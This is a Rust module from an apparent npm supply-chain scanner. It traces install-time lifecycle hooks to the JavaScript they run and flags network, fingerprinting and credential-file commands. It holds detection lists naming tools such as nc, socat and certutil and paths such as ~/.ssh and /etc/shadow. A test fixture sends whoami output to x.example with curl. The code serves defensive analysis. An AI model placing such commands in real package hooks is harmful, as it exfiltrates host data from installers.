//! What npm runs when a package is installed, resolved the way npm runs it.
//!
//! For each lifecycle hook of `package.json` the script is tokenized ([`crate::shell`]) and
//! every simple command is followed: `node .` / `node . --postinstall` start the package's
//! `main` (or `index.js`), `node file args` starts that file, `node -e code` runs inline code,
//! `npm run x` / `yarn x` / `pnpm run x` run another script (recursively, bounded), `sh
//! script.sh` and `./script.sh` run a shell file of the package, `sh -c '…'` a nested script.
//! Commands that talk to the network (`curl`, `nslookup`, …) or fingerprint the host
//! (`hostname`, `whoami`, …) are recorded as shell facts. The result lists the JavaScript
//! entry points that run at install time, for [`crate::install`] to analyse as such.

use crate::shell::{self, Command};
use portcullis_core::Package;
use serde_json::{Map, Value};

/// Hooks npm runs, and whether they run for a registry install (`prepare`, `prepublish`
/// run only for git and local installs and in the author's checkout).
pub const HOOKS: &[(&str, bool)] = &[
    ("preinstall", true),
    ("install", true),
    ("postinstall", true),
    ("preuninstall", true),
    ("uninstall", true),
    ("postuninstall", true),
    ("prepare", false),
    ("preprepare", false),
    ("postprepare", false),
    ("prepublish", false),
];

/// Most commands followed per package (across hooks, nested scripts and shell files).
const BUDGET: usize = 128;
/// Deepest `npm run` / shell-file nesting followed.
const MAX_DEPTH: usize = 4;

/// JavaScript that a hook starts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Code {
    /// A file of the package (its path in the package).
    File(String),
    /// `node -e` / `node -p` code.
    Inline(String),
}

/// One JavaScript entry point run at install time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub hook: String,
    /// Runs for registry installs (not only `prepare`-style hooks).
    pub registry: bool,
    pub code: Code,
    /// How the hook gets there (`postinstall` → `npm run setup` → `node .`).
    pub via: Vec<String>,
}

/// What a shell command of a hook does by itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShellKind {
    /// `curl`, `wget`, `nslookup`, `dig`, `nc`, `Invoke-WebRequest`, …
    Network,
    /// `hostname`, `whoami`, `id`, `uname`, `printenv`, …
    Fingerprint,
    /// Names a credential file (`~/.npmrc`, `~/.ssh/…`).
    Credentials,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellFact {
    pub hook: String,
    pub registry: bool,
    pub kind: ShellKind,
    /// The command's words, joined.
    pub command: String,
    /// Ran inside a command substitution.
    pub substituted: bool,
}

/// Everything resolved from one manifest.
#[derive(Debug, Clone, Default)]
pub struct Resolution {
    pub entries: Vec<Entry>,
    pub shell: Vec<ShellFact>,
    /// Commands that name a package file that does not exist.
    pub missing: Vec<(String, String)>,
}

const NETWORK_COMMANDS: &[&str] = &[
    "curl",
    "wget",
    "nslookup",
    "dig",
    "host",
    "ping",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ftp",
    "tftp",
    "scp",
    "ssh",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "certutil",
    "bitsadmin",
    "socat",
    "openssl",
];
const FINGERPRINT_COMMANDS: &[&str] = &[
    "hostname",
    "whoami",
    "id",
    "uname",
    "printenv",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "env",
    "set",
];
const CREDENTIAL_WORDS: &[&str] = &[
    ".npmrc",
    ".ssh/",
    "id_rsa",
    ".aws/",
    ".git-credentials",
    ".netrc",
    ".docker/config",
    ".kube/config",
    "/etc/passwd",
    "/etc/shadow",
];

struct Walk<'p> {
    package: &'p Package,
    scripts: Map<String, Value>,
    main: Option<String>,
    budget: usize,
    out: Resolution,
}

/// Resolves the lifecycle hooks of `manifest` (the parsed root `package.json`).
pub fn resolve(manifest: &Value, package: &Package) -> Resolution {
    let scripts = manifest
        .get("scripts")
        .and_then(Value::as_object)
        .cloned()
        .unwrap_or_default();
    let main = manifest
        .get("main")
        .and_then(Value::as_str)
        .map(str::to_string);
    let mut w = Walk {
        package,
        scripts,
        main,
        budget: BUDGET,
        out: Resolution::default(),
    };
    for (hook, registry) in HOOKS {
        if let Some(Value::String(cmd)) = w.scripts.get(*hook).cloned() {
            w.script(hook, *registry, &cmd, &[hook.to_string()], 0);
        }
    }
    w.out
}

impl Walk<'_> {
    fn script(&mut self, hook: &str, registry: bool, text: &str, via: &[String], depth: usize) {
        for cmd in shell::parse(text) {
            if self.budget == 0 {
                return;
            }
            self.budget -= 1;
            self.command(hook, registry, &cmd, via, depth);
        }
    }

    fn command(&mut self, hook: &str, registry: bool, cmd: &Command, via: &[String], depth: usize) {
        let argv = cmd.argv();
        let Some(first) = argv.first() else { return };
        let prog = first
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(first)
            .to_ascii_lowercase();
        let prog = prog.strip_suffix(".exe").unwrap_or(&prog).to_string();
        let joined = argv.join(" ");
        let fact = |kind| ShellFact {
            hook: hook.to_string(),
            registry,
            kind,
            command: portcullis_core::location::truncate_chars(&joined, 200),
            substituted: cmd.depth > 0,
        };
        if NETWORK_COMMANDS.contains(&prog.as_str())
            || (matches!(prog.as_str(), "powershell" | "pwsh")
                && joined.to_ascii_lowercase().contains("http"))
        {
            self.out.shell.push(fact(ShellKind::Network));
        }
        if FINGERPRINT_COMMANDS.contains(&prog.as_str()) {
            self.out.shell.push(fact(ShellKind::Fingerprint));
        }
        if argv
            .iter()
            .any(|a| CREDENTIAL_WORDS.iter().any(|c| a.contains(c)))
        {
            self.out.shell.push(fact(ShellKind::Credentials));
        }
        let mut next_via = via.to_vec();
        next_via.push(portcullis_core::location::truncate_chars(&joined, 80));
        match prog.as_str() {
            "node" | "nodejs" | "bun" | "deno" => self.node(hook, registry, &argv[1..], &next_via),
            "npm" | "yarn" | "pnpm" => {
                let rest: Vec<&str> = argv[1..]
                    .iter()
                    .map(String::as_str)
                    .filter(|a| !a.starts_with('-'))
                    .collect();
                let name = match rest.as_slice() {
                    ["run" | "run-script", name, ..] => Some(*name),
                    [name, ..] if prog != "npm" && self.scripts.contains_key(*name) => Some(*name),
                    ["start" | "test" | "stop" | "restart"] => Some(rest[0]),
                    _ => None,
                };
                if let Some(name) = name
                    && depth < MAX_DEPTH
                    && let Some(Value::String(next)) = self.scripts.get(name).cloned()
                {
                    self.script(hook, registry, &next, &next_via, depth + 1);
                }
            }
            "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                let args = &argv[1..];
                if let Some(i) = args.iter().position(|a| a == "-c") {
                    if let Some(body) = args.get(i + 1)
                        && depth < MAX_DEPTH
                    {
                        self.script(hook, registry, body, &next_via, depth + 1);
                    }
                } else if let Some(file) = args.iter().find(|a| !a.starts_with('-')) {
                    self.shell_file(hook, registry, file, &next_via, depth);
                }
            }
            _ if first.starts_with("./")
                || first.starts_with("../")
                || self.package.file(first).is_some() =>
            {
                let path = normalize("", first);
                match path.as_deref().and_then(|p| self.package.file(p)) {
                    Some(f)
                        if is_js_path(&f.path) || f.bytes.starts_with(b"#!/usr/bin/env node") =>
                    {
                        self.entry(hook, registry, Code::File(f.path.clone()), &next_via);
                    }
                    Some(_) => self.shell_file(hook, registry, first, &next_via, depth),
                    None => self.out.missing.push((hook.to_string(), first.clone())),
                }
            }
            _ => {}
        }
    }

    fn node(&mut self, hook: &str, registry: bool, args: &[String], via: &[String]) {
        let mut i = 0;
        while i < args.len() {
            let a = args[i].as_str();
            match a {
                "-e" | "--eval" | "-p" | "--print" => {
                    if let Some(code) = args.get(i + 1) {
                        self.entry(hook, registry, Code::Inline(code.clone()), via);
                    }
                    return;
                }
                "-r" | "--require" | "--import" | "--loader" => {
                    if let Some(m) = args.get(i + 1)
                        && (m.starts_with("./") || m.starts_with("../"))
                        && let Some(p) = self.resolve_js("", m)
                    {
                        self.entry(hook, registry, Code::File(p), via);
                    }
                    i += 2;
                    continue;
                }
                _ if a.starts_with('-') => {
                    i += 1;
                    continue;
                }
                _ => {
                    let target = if a == "." || a == "./" {
                        self.main.clone().unwrap_or_else(|| "index.js".into())
                    } else {
                        a.to_string()
                    };
                    match self.resolve_js("", &target) {
                        Some(p) => self.entry(hook, registry, Code::File(p), via),
                        None => self.out.missing.push((hook.to_string(), target)),
                    }
                    return;
                }
            }
        }
    }

    fn shell_file(&mut self, hook: &str, registry: bool, file: &str, via: &[String], depth: usize) {
        let Some(path) = normalize("", file) else {
            return;
        };
        let Some(f) = self.package.file(&path) else {
            self.out.missing.push((hook.to_string(), file.to_string()));
            return;
        };
        if depth >= MAX_DEPTH {
            return;
        }
        if let Some(text) = f.text() {
            let text = text.to_string();
            self.script(hook, registry, &text, via, depth + 1);
        }
    }

    fn entry(&mut self, hook: &str, registry: bool, code: Code, via: &[String]) {
        let e = Entry {
            hook: hook.to_string(),
            registry,
            code,
            via: via.to_vec(),
        };
        if !self.out.entries.contains(&e) && self.out.entries.len() < 64 {
            self.out.entries.push(e);
        }
    }

    /// Resolves a file the way `node` does: as given, then with `.js`/`.cjs`/`.mjs`, then as
    /// a directory's `index.js`.
    fn resolve_js(&self, base_dir: &str, spec: &str) -> Option<String> {
        resolve_in(self.package, base_dir, spec)
    }
}

/// Node's file resolution of a relative `spec` from `base_dir` inside `package`.
pub fn resolve_in(package: &Package, base_dir: &str, spec: &str) -> Option<String> {
    let p = normalize(base_dir, spec)?;
    let p = p.trim_end_matches('/');
    for cand in [
        p.to_string(),
        format!("{p}.js"),
        format!("{p}.cjs"),
        format!("{p}.mjs"),
        format!("{p}/index.js"),
        format!("{p}.ts"),
    ] {
        if let Some(f) = package.file(&cand) {
            return Some(f.path.clone());
        }
    }
    None
}

/// Joins `spec` to `base_dir` and removes `.` and `..`; `None` when it leaves the package.
pub fn normalize(base_dir: &str, spec: &str) -> Option<String> {
    let spec = spec.replace('\\', "/");
    if spec.starts_with('/') {
        return None;
    }
    let mut parts: Vec<&str> = base_dir.split('/').filter(|s| !s.is_empty()).collect();
    for seg in spec.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            s => parts.push(s),
        }
    }
    Some(parts.join("/"))
}

pub fn is_js_path(p: &str) -> bool {
    let l = p.to_ascii_lowercase();
    [".js", ".cjs", ".mjs", ".ts"]
        .iter()
        .any(|e| l.ends_with(e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use portcullis_core::{FileKind, Origin, SourceFile};

    fn pkg(files: &[(&str, &str)]) -> Package {
        let mut p = Package {
            source: "t".into(),
            origin: Origin::Directory,
            sha256: String::new(),
            files: files
                .iter()
                .map(|(p, t)| {
                    SourceFile::new(
                        *p,
                        if p.ends_with(".js") {
                            FileKind::JavaScript
                        } else {
                            FileKind::Text
                        },
                        t.as_bytes().to_vec(),
                    )
                })
                .collect(),
        };
        p.sort();
        p
    }

    fn files(r: &Resolution) -> Vec<String> {
        r.entries
            .iter()
            .filter_map(|e| match &e.code {
                Code::File(p) => Some(p.clone()),
                Code::Inline(_) => None,
            })
            .collect()
    }

    #[test]
    fn resolves_hooks_as_npm_runs_them() {
        let p = pkg(&[
            ("lib/main.js", ""),
            ("index.js", ""),
            ("scripts/setup.js", ""),
            (
                "tools/go.sh",
                "#!/bin/sh\nnode ./scripts/setup.js --quiet\n",
            ),
            ("build/app/index.js", ""),
        ]);
        let m = serde_json::json!({
            "main": "./lib/main",
            "scripts": {
                "preinstall": "node . --postinstall",
                "install": "NODE_ENV=production npm run setup",
                "setup": "sh tools/go.sh && node build/app",
                "postinstall": "node -e \"require('./index.js')\"",
                "prepare": "husky install",
            }
        });
        let r = resolve(&m, &p);
        assert_eq!(
            files(&r),
            vec!["lib/main.js", "scripts/setup.js", "build/app/index.js"]
        );
        let inline = r
            .entries
            .iter()
            .find(|e| matches!(e.code, Code::Inline(_)))
            .unwrap();
        assert_eq!(inline.hook, "postinstall");
        let setup = r
            .entries
            .iter()
            .find(|e| e.code == Code::File("scripts/setup.js".into()))
            .unwrap();
        assert_eq!(setup.hook, "install");
        assert!(setup.via.len() >= 3, "{:?}", setup.via);
        assert!(r.entries.iter().all(|e| e.registry));
    }

    #[test]
    fn node_dot_without_main_is_index_js_and_missing_files_are_named() {
        let p = pkg(&[("index.js", "")]);
        let m = serde_json::json!({ "scripts": { "postinstall": "node .; node gone.js" } });
        let r = resolve(&m, &p);
        assert_eq!(files(&r), vec!["index.js"]);
        assert_eq!(
            r.missing,
            vec![("postinstall".to_string(), "gone.js".to_string())]
        );
    }

    #[test]
    fn shell_facts_include_substitutions_and_prepare_is_not_registry() {
        let p = pkg(&[]);
        let m =
            serde_json::json!({ "scripts": { "prepare": "curl -s https://x.example/$(whoami)" } });
        let r = resolve(&m, &p);
        assert!(
            r.shell
                .iter()
                .any(|s| s.kind == ShellKind::Network && !s.registry)
        );
        assert!(
            r.shell
                .iter()
                .any(|s| s.kind == ShellKind::Fingerprint && s.substituted)
        );
    }

    #[test]
    fn paths_never_leave_the_package() {
        assert_eq!(normalize("a/b", "../c.js").as_deref(), Some("a/c.js"));
        assert_eq!(normalize("", "../../etc/passwd"), None);
        assert_eq!(normalize("", "/etc/passwd"), None);
    }
}
